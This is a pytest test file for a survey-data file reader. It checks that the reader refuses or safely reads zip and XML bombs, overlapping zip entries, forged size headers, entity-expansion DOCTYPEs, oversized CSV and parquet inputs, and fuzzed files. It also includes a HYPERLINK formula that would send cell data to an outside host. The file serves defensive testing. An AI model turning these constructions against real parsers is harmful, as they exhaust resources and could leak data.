"""Files made to bring a computer down, or to read otherwise than they look: refused before they are read."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pyarrow as pa
import pyreadstat
import pytest
from pyarrow import parquet

from evaluatie.study import Problem
from evaluatie.study.files import csvfile, limits, packed, parquetfile, savfile
from evaluatie.study.files.rawwave import RawWave, UnreadableError
from evaluatie.study.files.reading import read_answers
from evaluatie.study.guessing.sheets import read_tables

Edit = Callable[[bytes], bytes]
ROWS = [["code", "Q1"], ["a", 1], ["b", 2]]


def workbook(rows: list[list[object]] = ROWS) -> bytes:
    content = io.BytesIO()
    book = openpyxl.Workbook()
    assert book.active is not None
    for row in rows:
        book.active.append(row)
    book.save(content)
    return content.getvalue()


def edited(part: str, edit: Edit, rows: list[list[object]] = ROWS) -> bytes:
    """Give a workbook of which one part was changed."""
    content = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook(rows))) as read,
        zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as made,
    ):
        for name in read.namelist():
            text = read.read(name)
            made.writestr(name, edit(text) if part in name else text)
    return content.getvalue()


def with_shared_texts(texts: list[str], cells: list[int]) -> bytes:
    """Give a workbook as Excel writes it: every text once, and in the cells their numbers."""
    rows = "".join(
        f'<row r="{row}"><c r="A{row}"><v>{row}</v></c><c r="B{row}" t="s"><v>{text}</v></c></row>'
        for row, text in enumerate(cells, start=4)
    )
    whole = io.BytesIO(edited("sheet1", replaced(b"</sheetData>", f"{rows}</sheetData>".encode())))
    with zipfile.ZipFile(whole, "a", zipfile.ZIP_DEFLATED) as made:
        shared = "".join(f"<si><t>{text}</t></si>" for text in texts)
        made.writestr(
            "xl/sharedStrings.xml",
            f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{shared}</sst>',
        )
    return whole.getvalue()


def replaced(old: bytes, new: bytes) -> Edit:
    def edit(text: bytes) -> bytes:
        assert old in text
        return text.replace(old, new, 1)

    return edit


@pytest.fixture
def refused(tmp_path: Path) -> Callable[[str, bytes], Problem]:
    def read(name: str, content: bytes) -> Problem:
        (tmp_path / name).write_bytes(content)
        with pytest.raises(UnreadableError) as caught:
            read_answers(tmp_path / name)
        (problem,) = caught.value.problems
        assert problem.file == name
        assert problem.hint
        return problem

    return read


Refused = Callable[[str, bytes], Problem]


@pytest.fixture
def read(tmp_path: Path) -> Callable[[str, bytes], RawWave]:
    def read(name: str, content: bytes) -> RawWave:
        (tmp_path / name).write_bytes(content)
        return read_answers(tmp_path / name)

    return read


def test_a_file_that_is_too_large(refused: Refused, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MOST_BYTES", 1_000_000)
    problem = refused("t0.csv", b"code;Q1\n" + b"a;1\n" * 300_000)
    assert problem.message == "This file has 1 MB, and 1 may be read."


def test_a_workbook_that_unpacks_to_too_much(refused: Refused, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    bomb = edited("sheet1", replaced(b"</sheetData>", b"</sheetData>" + b"<!-- -->" * 1_000_000))
    assert len(bomb) < 60_000
    monkeypatch.setattr(packed, "MOST_UNPACKED", 5_000_000)
    assert "unpacks to more than 5 MB" in refused("t0.xlsx", bomb).message
    # nor is it opened to look for sheets
    with pytest.raises(UnreadableError):
        read_tables(tmp_path / "t0.xlsx", "t0.xlsx")


def test_a_size_that_a_workbook_declares_is_not_believed(refused: Refused, monkeypatch: pytest.MonkeyPatch) -> None:
    bomb = bytearray(edited("sheet1", replaced(b"</sheetData>", b"</sheetData>" + b"<!-- -->" * 1_000_000)))
    with zipfile.ZipFile(io.BytesIO(bytes(bomb))) as book:
        (sheet,) = (part for part in book.infolist() if "sheet1" in part.filename)
    for place in (bomb.find(sheet.filename.encode()) - 8, bomb.rfind(sheet.filename.encode()) - 22):
        assert int.from_bytes(bomb[place : place + 4], "little") == sheet.file_size
        bomb[place : place + 4] = (100).to_bytes(4, "little")
    monkeypatch.setattr(packed, "MOST_UNPACKED", 5_000_000)
    assert "unpacks to more than 5 MB" in refused("t0.xlsx", bytes(bomb)).message


def test_parts_that_are_one_part(refused: Refused) -> None:
    """Of a bomb whose parts overlap, each is small and all are the same bytes."""
    content = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook())) as read, zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as made:
        for name in read.namelist():
            made.writestr(name, read.read(name))
        made.writestr("xl/media/a", np.random.default_rng(1).bytes(100_000))
        whole = made.getinfo("xl/media/a")
        for number in range(50):
            again = zipfile.ZipInfo(f"xl/media/{number:03}")
            again.header_offset, again.compress_size = whole.header_offset, whole.compress_size
            again.file_size, again.CRC, again.compress_type = whole.file_size, whole.CRC, whole.compress_type
            made.filelist.append(again)
            made.NameToInfo[again.filename] = again
    assert "packed as Excel never packs one" in refused("t0.xlsx", content.getvalue()).message


@pytest.mark.parametrize("place", [b"XFD1048576", b"A99999999999", b"ZZZZZZ3", b"xfd1048576"])
def test_cells_that_are_far_apart(place: bytes, refused: Refused) -> None:
    """Two cells in opposite corners are read as seventeen thousand million."""
    problem = refused("t0.xlsx", edited("sheet1", replaced(b'r="B3"', b'r="' + place + b'"')))
    assert "may be read" in problem.message


def test_cells_that_do_not_say_where_they_stand_are_counted(refused: Refused, read: Callable[..., RawWave]) -> None:
    def without_places(text: bytes) -> bytes:
        for name in (b"A1", b"B1", b"A2", b"B2", b"A3", b"B3"):
            text = text.replace(b' r="' + name + b'"', b"")
        return text

    content = edited("sheet1", without_places)
    assert read("t0.xlsx", content).cells["Q1"].tolist() == [1, 2]
    wide = edited("sheet1", lambda text: replaced(b'<row r="3"', b'<row r="90000000"')(without_places(text)))
    assert "may be read" in refused("t0.xlsx", wide).message


def test_cells_that_are_only_coloured_may_be_anywhere(read: Callable[..., RawWave]) -> None:
    far = b'</row><row r="1048576"><c r="XFD1048576" s="0"/></row></sheetData>'
    content = edited("sheet1", replaced(b"</row></sheetData>", far))
    assert read("t0.xlsx", content).cells["Q1"].tolist() == [1, 2]


def test_a_text_that_comes_back_in_every_cell(refused: Refused, monkeypatch: pytest.MonkeyPatch) -> None:
    """A workbook keeps it once, and whoever reads it has it a thousand times."""
    content = with_shared_texts(["x" * 30_000], [0] * 1000)
    monkeypatch.setattr(packed, "MOST_UNPACKED", 20_000_000)
    assert "texts in this file take more than 20 MB" in refused("t0.xlsx", content).message


def test_a_long_text_beside_many_short_ones_is_no_bomb(
    read: Callable[..., RawWave], monkeypatch: pytest.MonkeyPatch
) -> None:
    content = with_shared_texts(["x" * 30_000, "ja"], [0, *[1] * 1000])
    monkeypatch.setattr(packed, "MOST_UNPACKED", 20_000_000)
    assert read("t0.xlsx", content).cells["Q1"].tolist()[-1] == "ja"


@pytest.mark.parametrize("part", ["sheet1", "workbook.xml", "styles", "rels"])
def test_abbreviations_of_its_own(part: str, refused: Refused) -> None:
    entities = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'

    def declare(text: bytes) -> bytes:
        start = text.index(b"<", 1) if text.startswith(b"<?xml") else 0
        return text[:start] + entities + text[start:]

    problem = refused("t0.xlsx", edited(part, declare))
    assert "DOCTYPE" in problem.message


def test_a_cell_far_longer_than_excel_allows(refused: Refused) -> None:
    content = edited("sheet1", replaced(b"<v>1</v>", b"<v>" + b"1" * 4_000_000 + b"</v>"))
    assert "far longer than Excel allows" in refused("t0.xlsx", content).message


def test_formulas_are_read_as_what_excel_calculated_and_never_run(read: Callable[..., RawWave]) -> None:
    formula = b'<f>HYPERLINK("http://example.org/?"&amp;A2,"x")</f><v>1</v>'
    content = edited("sheet1", replaced(b"<v>1</v>", formula))
    assert read("t0.xlsx", content).cells["Q1"].tolist() == [1, 2]


def test_a_text_file_with_a_million_columns(refused: Refused) -> None:
    names = b";".join(b"Q%d" % number for number in range(1_000_000))
    problem = refused("t0.csv", names + b"\n" + b";" * 999_999 + b"\n")
    assert "1,000,000 columns, and 20,000 may be read" in problem.message


def test_a_quote_that_is_never_closed(refused: Refused) -> None:
    problem = refused("t0.csv", b'code;Q1\na;1\nb;"2\n' + b"c;3\n" * 100_000)
    assert problem.row == 3
    assert "not closed" in problem.message


def test_a_row_without_an_end(refused: Refused, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csvfile, "MOST_LETTERS", 100_000)
    # every cell is short, and every line; the row is not
    problem = refused("t0.csv", b'code;Q1\na;1\nb;"2\n";' + b'"\n";' * 40_000)
    assert "longer than 100,000 characters" in problem.message
    assert problem.row in (2, 3)
    assert "longer than" in refused("t0.csv", b"x" * 200_000).message


def test_too_many_cells(refused: Refused, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MOST_CELLS", 1000)
    assert "2,000 cells, and 1,000 may be read" in refused("t0.csv", b"code;Q1\n" + b"a;1\n" * 1000).message


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("code;Q1\na;1\n".encode("utf-32"), "not a text"),
        ("code;Q1\na\0;1\n".encode("utf-16"), "not a text"),
        (b"code;Q1\na\0;1\n", "not a text"),
        (b"\xef\xbb\xbf\xef\xbb\xbf\x81", "not a text"),
        (b"\xff\xfe" + b"\x00\xd8" * 4, "broken off"),
    ],
)
def test_bytes_that_are_no_text(content: bytes, message: str, refused: Refused) -> None:
    assert message in refused("t0.csv", content).message


def test_an_spss_file_with_more_rows_than_can_be_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What is the same in every row packs to nearly nothing; the number of rows in the heading is not believed."""
    pyreadstat.write_sav(pd.DataFrame({"code": range(5000), "Q1": 1.0}), tmp_path / "t0.sav", compress=True)
    raw = bytearray((tmp_path / "t0.sav").read_bytes())
    assert int.from_bytes(raw[80:84], "little") == 5000
    monkeypatch.setattr(savfile, "MOST_CELLS", 1000)
    for declared in (5000, 7):
        raw[80:84] = declared.to_bytes(4, "little")
        (tmp_path / "t0.sav").write_bytes(raw)
        read_or_refused(tmp_path / "t0.sav", most=500)
    raw[80:84] = (2**31 - 1).to_bytes(4, "little")
    (tmp_path / "t0.sav").write_bytes(raw)
    with pytest.raises(UnreadableError, match="more than 500 rows"):
        read_answers(tmp_path / "t0.sav")


def read_or_refused(path: Path, most: int) -> None:
    try:
        assert len(read_answers(path).cells) <= most
    except UnreadableError as error:
        assert "rows" in error.problems[0].message  # noqa: PT017 - either is right


def test_a_parquet_whose_text_comes_back_in_every_row(tmp_path: Path) -> None:
    """A million times ten thousand letters, in twelve kilobytes: read without ever being written out."""
    numbers = pa.array([0] * 1_000_000, pa.int32())
    table = pa.table({"a": pa.DictionaryArray.from_arrays(numbers, pa.array(["x" * 10_000]))})
    parquet.write_table(table, tmp_path / "t0.parquet", store_schema=False)
    cells = read_answers(tmp_path / "t0.parquet").cells["a"]
    assert len(cells) == 1_000_000
    assert len(set(map(id, cells))) == 1


def test_a_parquet_that_is_too_large(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    pd.DataFrame({"code": range(1000), "Q1": 1.0}).to_parquet(tmp_path / "t0.parquet")
    nested = pa.table({"a": pa.array([[1] * 1000, []], pa.list_(pa.int8()))})
    parquet.write_table(nested, tmp_path / "t1.parquet")
    monkeypatch.setattr(parquetfile, "MOST_UNPACKED", 1000)
    with pytest.raises(UnreadableError, match="unpacks to more"):
        read_answers(tmp_path / "t0.parquet")
    monkeypatch.setattr(limits, "MOST_CELLS", 500)
    for name in ("t0.parquet", "t1.parquet"):
        with pytest.raises(UnreadableError, match="may be read"):
            read_answers(tmp_path / name)


@pytest.mark.parametrize("kind", ["csv", "xlsx", "sav", "parquet"])
def test_whatever_is_damaged_is_read_or_refused(kind: str, tmp_path: Path) -> None:
    """Eighty files of each kind with bytes changed, left out or doubled: never an error that nobody foresaw."""
    frame, path = pd.DataFrame({"code": ["a", "b", "c"], "Q1": [1.0, 2.0, None]}), tmp_path / f"t0.{kind}"
    if kind == "csv":
        frame.to_csv(path, index=False)
    elif kind == "xlsx":
        path.write_bytes(workbook())
    elif kind == "sav":
        pyreadstat.write_sav(frame, path)
    else:
        frame.to_parquet(path)
    whole, chance = path.read_bytes(), np.random.default_rng(7)
    refused = 0
    for _ in range(80):
        path.write_bytes(_damaged(whole, chance))
        try:
            assert isinstance(read_answers(path), RawWave)
        except UnreadableError as error:
            refused += 1
            assert all(problem.file == path.name and problem.message for problem in error.problems)  # noqa: PT017
    assert refused


def _damaged(whole: bytes, chance: np.random.Generator) -> bytes:
    raw = bytearray(whole)
    for _ in range(chance.integers(1, 9)):
        at = int(chance.integers(len(raw)))
        match chance.integers(3):
            case 0:
                raw[at] = chance.integers(256)
            case 1:
                del raw[at : at + chance.integers(1, 30)]
            case _:
                raw[at:at] = raw[at : at + chance.integers(1, 30)]
        raw = raw or bytearray(b"\0")
    return bytes(raw)


@pytest.mark.parametrize("part", ["sheet1", "workbook.xml", "sharedStrings", "styles", "Content_Types"])
def test_a_workbook_with_a_damaged_part_is_read_or_refused(part: str, tmp_path: Path) -> None:
    chance, path = np.random.default_rng(11), tmp_path / "t0.xlsx"
    for _ in range(25):
        path.write_bytes(edited(part, lambda text: _damaged(text, chance)))
        try:
            assert isinstance(read_answers(path), RawWave)
        except UnreadableError as error:
            assert error.problems  # noqa: PT017


def test_a_part_that_is_damaged_where_it_is_packed(refused: Refused) -> None:
    with pytest.raises(zlib.error):
        zlib.decompress(b"damaged")
    content = bytearray(workbook())
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as book:
        start = book.getinfo("xl/worksheets/sheet1.xml").header_offset + 80
    content[start : start + 40] = b"\xff" * 40
    assert "not a whole Excel workbook" in refused("t0.xlsx", bytes(content)).message
